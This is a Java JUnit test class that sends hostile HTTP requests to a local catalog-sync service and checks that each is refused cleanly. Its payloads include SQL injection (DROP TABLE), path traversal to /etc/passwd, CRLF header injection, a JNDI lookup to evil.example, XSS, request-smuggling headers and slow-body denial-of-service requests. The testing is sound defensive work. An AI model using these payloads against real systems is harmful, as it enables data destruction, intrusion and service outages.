package io.catalogsync.web;

import static io.catalogsync.web.ServiceClient.json;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.Socket;
import java.net.SocketException;
import java.net.http.HttpRequest;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.locks.LockSupport;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import tools.jackson.databind.JsonNode;

/** What nobody sends who means well, over real HTTP: a problem each time, and nothing lost. */
class HostileRequestsTest extends SharedService {
  private static final List<String> INJECTIONS =
      List.of(
          "'; DROP TABLE meta_runs; --",
          "meta_runs]; DELETE FROM [odibi_system].[meta_runs",
          "../../../../etc/passwd",
          "..\\\\..\\\\windows\\\\win.ini",
          "%2e%2e%2fetc%2fpasswd",
          "meta_runs\\u0000",
          "meta_runs\\r\\nX-Injected: yes",
          "${jndi:ldap://evil.example/a}",
          "<script>alert(1)</script>",
          "\\ud800",
          "x".repeat(300));

  private final List<Long> rows = new ArrayList<>();

  @AfterEach
  void nothingIsLost() {
    assertThat(service.get("/actuator/health/liveness").statusCode()).isEqualTo(200);
    JsonNode table = service.table("sales", "meta_runs");
    assertThat(table.get("rows").asLong()).isPositive();
    assertThat(rows).allMatch(before -> before == table.get("rows").asLong());
  }

  @Test
  void injectionsAreRefusedInEveryField() {
    rows.add(service.table("sales", "meta_runs").get("rows").asLong());
    for (String text : INJECTIONS) {
      for (String body :
          List.of(
              "{\"project\": \"" + text + "\"}",
              "{\"environment\": \"" + text + "\"}",
              "{\"mode\": \"" + text + "\"}",
              "{\"tables\": [\"meta_runs\", \"" + text + "\"]}",
              "{\"" + text + "\": 1}")) {
        for (String path : List.of("/sync", "/sync/pause", "/sync/resume", "/sync/purge")) {
          assertProblem(service.post(path, body), 400, body);
        }
        HttpResponse<String> event =
            service.post(EVENTS, "{\"metadata\": " + body + ", \"event_type\": \"on_start\"}");
        assertThat(event.statusCode()).as(body).isEqualTo(202);
      }
    }
  }

  @Test
  void injectionsAreRefusedInTheAddress() throws IOException {
    for (String path :
        List.of(
            "/sync/..%2f..%2fetc%2fpasswd",
            "/sync/%2e%2e/status",
            "//sync/status",
            "/sync;a=b/status",
            "/sync/status/../../actuator/env",
            "/sync/status?project=%27%3B%20DROP%20TABLE%20meta_runs",
            "/sync/%00",
            "/sync/a%0d%0aX-Injected:%20yes",
            "/sync/'%20OR%201=1",
            "/sync/x|y",
            "/actuator/catalogsync/%2e%2e%2f",
            "/assets/..%2f..%2fapplication.yaml",
            "/sync/" + "a".repeat(4000))) {
      String answer = raw("GET " + path + " HTTP/1.1\r\n" + head(""));
      assertThat(answer).as(path).startsWith("HTTP/1.1 4").contains("application/problem+json");
      assertThat(answer)
          .as(path)
          .contains("\"code\"", "\"hint\"")
          .doesNotContain("X-Injected: yes");
      assertThat(answer).doesNotContain("Exception", "io.catalogsync", "<html", "root:");
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "NONSENSE\r\n\r\n",
        "GET /sync/status HTTP/9.9\r\n\r\n",
        "GET /sync/status HTTP/1.1\r\n\r\n",
        "POST /sync HTTP/1.1\r\nHost: x\r\nContent-Length: -1\r\n\r\n",
        "POST /sync HTTP/1.1\r\nHost: x\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\n",
        "POST /sync HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\nContent-Length: 3\r\n\r\nZ\r\n",
        "GET / HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n"
      })
  void whatIsNotHttpIsRefused(String request) throws IOException {
    String answer = raw(request);
    assertThat(answer).startsWith("HTTP/1.1 ").doesNotContain("<html", "Exception", "Tomcat");
    assertThat(answer.substring(9, 12)).matches("40\\d|505|501");
  }

  @Test
  void headersThatAreTooLongAreRefused() throws IOException {
    String answer =
        raw("GET /sync/status HTTP/1.1\r\n" + head("X-Long: " + "a".repeat(9000) + "\r\n"));
    assertThat(answer).startsWith("HTTP/1.1 4").doesNotContain("<html", "Exception");
  }

  static List<byte[]> unreadable() {
    return List.of(
        bytes("{"),
        bytes("[]"),
        bytes("7"),
        bytes("null"),
        bytes("{} {}"),
        bytes("{\"project\": \"sales\", \"project\": \"busy\"}"),
        bytes("{\"dryRun\": NaN}"),
        bytes("{\"project\": Infinity}"),
        bytes("{'project': 'sales'}"),
        bytes("[".repeat(100_000)),
        bytes("{\"a\":".repeat(100_000)),
        bytes("{\"project\": " + "1".repeat(5000) + "}"),
        new byte[] {'{', '"', 'a', '"', ':', '"', (byte) 0xff, (byte) 0xfe, '"', '}'},
        new byte[] {(byte) 0xc0, (byte) 0x80},
        new byte[1000]);
  }

  @ParameterizedTest
  @MethodSource("unreadable")
  void unreadableBodiesAreRefusedWhereSomethingIsAskedFor(byte[] body) {
    for (String path : List.of("/sync", "/sync/pause", "/sync/resume")) {
      HttpResponse<String> answer = service.send(path, posted(body));
      assertProblem(
          answer, 400, new String(body, 0, Math.min(40, body.length), StandardCharsets.UTF_8));
    }
    for (String path : List.of(EVENTS, "/api/v1/lineage")) {
      assertThat(service.send(path, posted(body)).statusCode()).isEqualTo(202);
      assertThat(ServiceClient.stranger(port).send(path, posted(body)).statusCode()).isEqualTo(401);
    }
  }

  private static HttpRequest.Builder posted(byte[] body) {
    return HttpRequest.newBuilder()
        .header("Content-Type", "application/json")
        .POST(BodyPublishers.ofByteArray(body));
  }

  @Test
  void everyMistakeIsNamed() {
    HttpResponse<String> answer =
        service.post(
            "/sync",
            """
            {"project": 7, "environment": "", "tables": ["meta_runs", null], "mode": "sideways",
             "dryRun": "yes", "tabels": []}
            """);
    assertProblem(answer, 400, "all wrong");
    JsonNode problems = json(answer).get("problems");
    assertThat(problems.size()).isEqualTo(6);
    for (String field : List.of("project", "environment", "tables", "mode", "dryRun", "tabels")) {
      assertThat(problems.toString()).contains(field);
      assertThat(json(answer).get("detail").asString()).contains(field);
    }
  }

  @ParameterizedTest
  @CsvSource({
    "GET, /nothing/here, 404, ROUTE_UNKNOWN",
    "POST, /nothing/here, 404, ROUTE_UNKNOWN",
    "DELETE, /sync, 405, METHOD_NOT_ALLOWED",
    "PUT, /sync/status, 405, METHOD_NOT_ALLOWED",
    "GET, /sync/pause, 404, SYNC_UNKNOWN",
    "PATCH, /events/run-completed, 405, METHOD_NOT_ALLOWED"
  })
  void whatIsNotThereIsAProblem(String method, String path, int status, String code) {
    HttpResponse<String> answer =
        service.send(path, HttpRequest.newBuilder().method(method, BodyPublishers.noBody()));
    assertProblem(answer, status, method + " " + path);
    assertThat(json(answer).get("code").asString()).isEqualTo(code);
  }

  @Test
  void typesNobodySpeaksAreAProblem() {
    HttpResponse<String> form = service.post("/sync", "application/x-www-form-urlencoded", "a=b");
    assertProblem(form, 415, "form");
    assertThat(json(form).get("code").asString()).isEqualTo("MEDIA_TYPE_UNSUPPORTED");
    assertThat(json(form).get("hint").asString()).contains("application/json");
    HttpResponse<String> image =
        service.send("/sync/x", HttpRequest.newBuilder().header("Accept", "image/png"));
    assertThat(image.statusCode()).isIn(404, 406);
    assertThat(image.headers().firstValue("Content-Type")).contains("application/problem+json");
  }

  @Test
  void aRangeOfTypesIsNoType() {
    for (String path : List.of("/sync", EVENTS, "/api/v1/lineage")) {
      assertProblem(service.post(path, "*/*", "{}"), 415, path);
      assertProblem(service.post(path, "application/*", "{}"), 415, path);
    }
  }

  @Test
  void parametersWithoutAReadableNameAreRefused() {
    for (String path : List.of("/actuator/catalogsync", "/sync/status")) {
      assertThat(service.get(path + "?%00=x").statusCode()).as(path).isIn(200, 400);
      assertThat(service.get(path + "?%C2%85=x").statusCode()).as(path).isIn(200, 400);
    }
    assertProblem(service.get("/actuator/catalogsync?%00=x"), 400, "a parameter named U+0000");
    assertProblem(service.get("/sync/status?=x"), 400, "a parameter without a name");
  }

  @Test
  void aHundredMegabytesAreRefusedBeforeTheyAreSent() throws IOException {
    String length = "Content-Length: " + (100 << 20) + "\r\n";
    for (String path : List.of("/sync", EVENTS, "/api/v1/lineage", "/sync/pause")) {
      String answer =
          raw("POST " + path + " HTTP/1.1\r\n" + head("Expect: 100-continue\r\n" + length));
      assertThat(answer).as(path).startsWith("HTTP/1.1 413").contains("REQUEST_TOO_LARGE");
      String stranger = raw("POST " + path + " HTTP/1.1\r\nHost: x\r\n" + length + "\r\n{");
      assertThat(stranger).as(path).startsWith("HTTP/1.1 413");
    }
  }

  @Test
  void aHundredMegabytesSentAllTheSameAreNotRead() throws IOException {
    byte[] megabyte = bytes(" ".repeat(1 << 20));
    String length = "Content-Length: " + (100 << 20) + "\r\n";
    for (String path : List.of("/sync", "/sync/purge", EVENTS, "/api/v1/lineage")) {
      int sent = 0;
      try (Socket socket = new Socket("localhost", port)) {
        socket.getOutputStream().write(bytes("POST " + path + " HTTP/1.1\r\n" + head(length)));
        for (; sent < 100; sent++) {
          socket.getOutputStream().write(megabyte);
        }
      } catch (SocketException hungUp) {
        // as it should
      }
      assertThat(sent).as("megabytes sent to " + path).isLessThan(50);
    }
  }

  @Test
  void bodiesOfUnknownLengthAreCutOff() throws IOException {
    for (String path : List.of("/sync", EVENTS)) {
      String head = "POST " + path + " HTTP/1.1\r\n" + head("Transfer-Encoding: chunked\r\n");
      assertThat(chunks(head)).as(path).startsWith("HTTP/1.1 413").contains("REQUEST_TOO_LARGE");
    }
    String stranger =
        "POST " + EVENTS + " HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n";
    assertThat(chunks(stranger)).startsWith("HTTP/1.1 413");
  }

  /** Sends chunks until the answer comes or the connection ends. */
  private String chunks(String head) throws IOException {
    try (Socket socket = new Socket("localhost", port)) {
      OutputStream out = socket.getOutputStream();
      out.write(bytes(head));
      byte[] chunk = bytes("10000\r\n" + " ".repeat(0x10000) + "\r\n");
      try {
        for (int i = 0; i < 17 && socket.getInputStream().available() == 0; i++) {
          out.write(chunk);
          out.flush();
        }
      } catch (SocketException e) {
        // closed by the service: what it said before can still be read
      }
      return answer(socket);
    }
  }

  @Test
  void aBodyThatDribblesIsCutOff() throws IOException {
    String head = "POST " + EVENTS + " HTTP/1.1\r\n" + head("Content-Length: 1000\r\n");
    try (Socket socket = new Socket("localhost", port)) {
      OutputStream out = socket.getOutputStream();
      out.write(bytes(head));
      long started = System.nanoTime();
      while (socket.getInputStream().available() == 0
          && System.nanoTime() - started < TimeUnit.SECONDS.toNanos(30)) {
        out.write(' ');
        out.flush();
        LockSupport.parkNanos(TimeUnit.MILLISECONDS.toNanos(50));
      }
      assertThat(answer(socket)).startsWith("HTTP/1.1 408").contains("REQUEST_TOO_SLOW");
    }
  }

  @ParameterizedTest
  @ValueSource(strings = {"", "GET /sync", "GET /sync/status HTTP/1.1\r\nHost: x\r\nX-Y"})
  void whoFallsSilentIsCutOff(String start) throws IOException {
    try (Socket socket = new Socket("localhost", port)) {
      socket.setSoTimeout(30_000);
      socket.getOutputStream().write(bytes(start));
      assertThat(answer(socket)).doesNotContain("200 OK");
    }
  }

  @Test
  void aBodyThatStopsIsCutOff() throws IOException {
    String request = "POST /sync HTTP/1.1\r\n" + head("Content-Length: 1000\r\n") + "{";
    assertThat(raw(request)).startsWith("HTTP/1.1 408").contains("REQUEST_TOO_SLOW");
  }

  private static String head(String more) {
    return "Host: x\r\nConnection: close\r\nContent-Type: application/json\r\nAuthorization: Bearer "
        + ServiceClient.ADMIN
        + "\r\n"
        + more
        + "\r\n";
  }

  private String raw(String request) throws IOException {
    try (Socket socket = new Socket("localhost", port)) {
      socket.setSoTimeout(30_000);
      socket.getOutputStream().write(bytes(request));
      return answer(socket);
    }
  }

  private static String answer(Socket socket) throws IOException {
    ByteArrayOutputStream answer = new ByteArrayOutputStream();
    try {
      InputStream in = socket.getInputStream();
      for (int one = in.read(); one >= 0; one = in.read()) {
        answer.write(one);
      }
    } catch (SocketException e) {
      // reset after the answer, because the service did not read all of the request
    }
    return answer.toString(StandardCharsets.UTF_8);
  }

  private static byte[] bytes(String text) {
    return text.getBytes(StandardCharsets.UTF_8);
  }

  private static void assertProblem(HttpResponse<String> answer, int status, String what) {
    assertThat(answer.statusCode()).as("%s: %s", what, answer.body()).isEqualTo(status);
    assertThat(answer.headers().firstValue("Content-Type"))
        .as(what)
        .contains("application/problem+json");
    JsonNode problem = json(answer);
    assertThat(problem.get("status").asInt()).isEqualTo(status);
    assertThat(problem.get("type").asString()).startsWith("urn:catalog-sync:problem:");
    assertThat(problem.get("code").asString()).matches("[A-Z_]+");
    assertThat(problem.get("hint").asString()).isNotEmpty();
    assertThat(answer.body())
        .doesNotContain("\\tat ", "trace", "Exception", "io.catalogsync", "<script>");
  }
}
